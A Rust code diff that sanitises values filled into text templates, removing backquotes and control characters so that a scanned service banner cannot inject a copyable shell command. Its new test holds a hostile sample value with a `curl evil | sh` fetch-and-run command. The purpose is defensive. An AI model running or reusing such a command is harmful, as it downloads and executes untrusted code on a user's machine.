@@ -70,12 +70,21 @@ impl Text {
 
     /// The text with each placeholder replaced by `value(name)`; `None`
     /// when one has no value.
+    ///
+    /// A value may come from a scanned service (a product name), so it
+    /// loses its backquotes and control characters: the shells show the
+    /// text between backquotes as a command to copy, and a hostile banner
+    /// must not write one.
     pub fn fill<'v>(&self, value: &impl Fn(&str) -> Option<&'v str>) -> Option<String> {
         let mut out = String::new();
         for piece in &self.0 {
             match piece {
                 Piece::Text(text) => out.push_str(text),
-                Piece::Name(name) => out.push_str(value(name)?),
+                Piece::Name(name) => out.extend(
+                    value(name)?
+                        .chars()
+                        .map(|c| if c == '`' || c.is_control() { ' ' } else { c }),
+                ),
             }
         }
         Some(out)
@@ -126,5 +135,15 @@ mod tests {
             Some("`Where-Object { $_.LocalPort -eq 3306 }`")
         );
         assert_eq!(Text::parse("a {}"), Err(TextError::Empty));
+    }
+
+    #[test]
+    fn a_scanned_value_cannot_write_a_command() {
+        let text = Text::parse("Update {product}: `apt upgrade`.").unwrap();
+        let hostile = |_: &str| Some("nginx`; curl evil | sh; `\n");
+        assert_eq!(
+            text.fill(&hostile).as_deref(),
+            Some("Update nginx ; curl evil | sh;   : `apt upgrade`.")
+        );
     }
 }
